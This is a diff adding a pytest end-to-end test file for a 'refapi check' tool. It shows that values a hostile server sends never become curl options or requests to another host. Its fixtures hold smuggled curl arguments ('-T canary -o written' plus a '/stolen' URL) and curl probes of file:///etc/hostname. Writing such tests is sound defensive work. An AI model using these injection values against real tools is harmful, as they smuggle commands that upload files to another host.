@@ -1,0 +1,216 @@
+"""``refapi check URL`` pointed at a hostile server: what the server sends (a
+``Location``, an id, a redirect) never becomes a curl option, a second URL or a
+request elsewhere (docs/operating.md, "Checking a deployment").
+
+Two servers of the test's own on loopback: the one checked, whose answers carry
+curl options and a second server's URL, and the second, which must hear nothing.
+And one whose "auth" bucket is empty for a second when the check cleans up.
+"""
+
+from __future__ import annotations
+
+import json
+import secrets
+import socket
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+
+from refapi import check
+from tests.e2e.test_check import refapi_check
+
+pytestmark = pytest.mark.e2e
+
+
+class Recorder(ThreadingHTTPServer):
+    """A server that keeps every request it reads: method, path, headers, body."""
+
+    daemon_threads = True
+
+    def __init__(self, answer: type[BaseHTTPRequestHandler]) -> None:
+        super().__init__(("127.0.0.1", 0), answer)
+        self.heard: list[tuple[str, str, str, bytes]] = []
+        self.hostile: dict[str, str] = {}
+
+    @property
+    def base(self) -> str:
+        return f"http://127.0.0.1:{self.server_address[1]}"
+
+
+class Answer(BaseHTTPRequestHandler):
+    """Records the request, then answers as ``answer`` says."""
+
+    server: Recorder
+
+    def handle_one(self) -> None:
+        length = int(self.headers.get("Content-Length") or 0)
+        body = self.rfile.read(length) if length else b""
+        heard = (self.command, self.path, str(self.headers), body)
+        self.server.heard.append(heard)
+        status, headers, sent = self.answer()
+        self.send_response(status)
+        for name, value in {"Content-Length": str(len(sent)), **headers}.items():
+            self.send_header(name, value)
+        self.end_headers()
+        self.wfile.write(sent)
+
+    do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = do_HEAD = handle_one
+
+    def answer(self) -> tuple[int, dict[str, str], bytes]:
+        return 200, {}, b"{}"
+
+    def log_message(self, format: str, *args: object) -> None:
+        pass
+
+
+class Hostile(Answer):
+    """Answers the check's examples with curl options, a second server's URL and
+    redirects to it, wherever the examples read what the server said."""
+
+    def answer(self) -> tuple[int, dict[str, str], bytes]:
+        hostile, path = self.server.hostile, self.path
+        if (self.command, path) == ("POST", "/v1/articles"):
+            return 201, {"Location": hostile["location"]}, b"{}"
+        if (self.command, path) == ("POST", "/api/oauth-clients"):
+            client = {"id": hostile["id"], "clientId": "c", "clientSecret": "s"}
+            return 201, {}, json.dumps(client).encode()
+        if (self.command, path) == ("POST", "/api/login"):
+            login = {"token": "a-token", "user": {"id": hostile["id"]}}
+            return 200, {}, json.dumps(login).encode()
+        if self.command == "GET":
+            return 302, {"Location": hostile["elsewhere"] + path}, b""
+        return 307, {"Location": hostile["elsewhere"] + path}, b"{}"
+
+
+def serve(answer: type[BaseHTTPRequestHandler]) -> Iterator[Recorder]:
+    server = Recorder(answer)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield server
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+@pytest.fixture
+def elsewhere() -> Iterator[Recorder]:
+    yield from serve(Answer)
+
+
+@pytest.fixture
+def hostile() -> Iterator[Recorder]:
+    yield from serve(Hostile)
+
+
+def files_under(folder: Path) -> list[Path]:
+    return sorted(folder.rglob("*"))
+
+
+@pytest.mark.parametrize(
+    "location",
+    ["/v1/articles/1 -T {canary} -o {written}", "@127.0.0.1:{port}/v1/articles/1"],
+    ids=["curl-options", "another-host"],
+)
+def test_what_a_hostile_server_sends_stays_one_word_aimed_at_it(
+    hostile, elsewhere, tmp_path, location
+):
+    canary = tmp_path / "canary.txt"
+    canary.write_text(f"canary {secrets.token_hex(8)}\n")
+    written = tmp_path / "written-by-curl"
+    # A Location with curl options in it, or naming another host (as the URL's
+    # user part after $BASE); an id holding options and a second URL; every other
+    # GET redirected to the second server.
+    port = elsewhere.server_address[1]
+    hostile.hostile = {
+        "location": location.format(canary=canary, written=written, port=port),
+        "id": f"1 -T {canary} -o {written} {elsewhere.base}/stolen",
+        "elsewhere": elsewhere.base,
+    }
+    token = f"admin-{secrets.token_hex(8)}"
+    ci = tmp_path / "ci"
+    ci.mkdir()
+    before = files_under(tmp_path)
+    done = refapi_check(hostile.base, "--writes", token=token, cwd=ci)
+    assert done.returncode == 1, done.stdout  # it differs, and says so
+    assert elsewhere.heard == []  # no request, so neither the token nor the canary
+    bodies = [body for _, _, _, body in hostile.heard]
+    assert not any(canary.read_bytes() in body for body in bodies)
+    assert files_under(tmp_path) == before  # nothing written, here or in ci/
+    headers = [head for _, _, head, _ in hostile.heard]
+    assert any(f"Bearer {token}" in head for head in headers)  # the admin examples ran
+
+
+SHELL = """\
+```sh portable
+echo /*; ls -A
+env | cut -d= -f1 | sort | tr '\\n' ' '; echo
+curl -s -o /dev/null -w '%{http_code}\\n' "http://elsewhere.example/x"
+curl -s -o /dev/null -w '%{http_code}\\n' "$ELSEWHERE/y"
+curl -s -o /dev/null -w '%{http_code}\\n' "file:///etc/hostname" || echo refused
+```
+
+```output
+/*
+ADMIN BASE CURL_HOME HOME PATH PWD SHLVL _ \n\
+302
+302
+000
+refused
+```
+"""
+
+
+def test_the_examples_shell_globs_nothing_and_its_curls_reach_one_origin(
+    hostile, elsewhere, capsys
+):
+    # The checked server redirects each GET to the second: curl follows none.
+    hostile.hostile["elsewhere"] = elsewhere.base
+    text = SHELL.replace("$ELSEWHERE", elsewhere.base)
+    assert check.check(hostile.base, texts={"shell.md": text}) == 0, capsys.readouterr()
+    assert elsewhere.heard == []
+    hosts = [head.splitlines()[0] for _, _, head, _ in hostile.heard]
+    assert hosts[-2:] == ["Host: elsewhere.example", f"Host: {elsewhere.base[7:]}"]
+
+
+class Busy(Answer):
+    """Refuses the first login with a 429 for a second, as an empty "auth" bucket."""
+
+    def answer(self) -> tuple[int, dict[str, str], bytes]:
+        logins = [heard for heard in self.server.heard if heard[1] == "/api/login"]
+        if len(logins) == 1:
+            return 429, {"Retry-After": "1"}, b"{}"
+        if self.path == "/api/login":
+            return 200, {}, b'{"token": "t", "user": {"id": 7}}'
+        return 204, {}, b""
+
+
+def test_the_clean_up_waits_out_a_login_refused_for_a_moment():
+    for busy in serve(Busy):
+        names = check.Names()
+        names.email(check.EMAIL.match("ada@example.com"))  # as if she registered
+        assert check.delete_users(busy.base, names) == []
+        assert [(method, path) for method, path, _, _ in busy.heard] == [
+            ("POST", "/api/login"), ("POST", "/api/login"), ("DELETE", "/api/users/7"),
+        ]  # fmt: skip
+
+
+def test_a_server_that_does_not_answer_http_is_one_line_and_exit_2(capsys):
+    with socket.create_server(("127.0.0.1", 0)) as listener:
+
+        def garble() -> None:  # the check's first request: its probe
+            connection, _ = listener.accept()
+            with connection:
+                connection.recv(65536)
+                connection.sendall(b"SSH-2.0-OpenSSH_9.2\r\n")
+
+        threading.Thread(target=garble, daemon=True).start()
+        base = f"http://127.0.0.1:{listener.getsockname()[1]}"
+        assert check.check(base, texts={}) == 2
+    assert capsys.readouterr().out == (
+        f"refapi check: cannot reach {base}: not HTTP"
+        " (BadStatusLine: 'SSH-2.0-OpenSSH_9.2\\r\\n')\n"
+    )
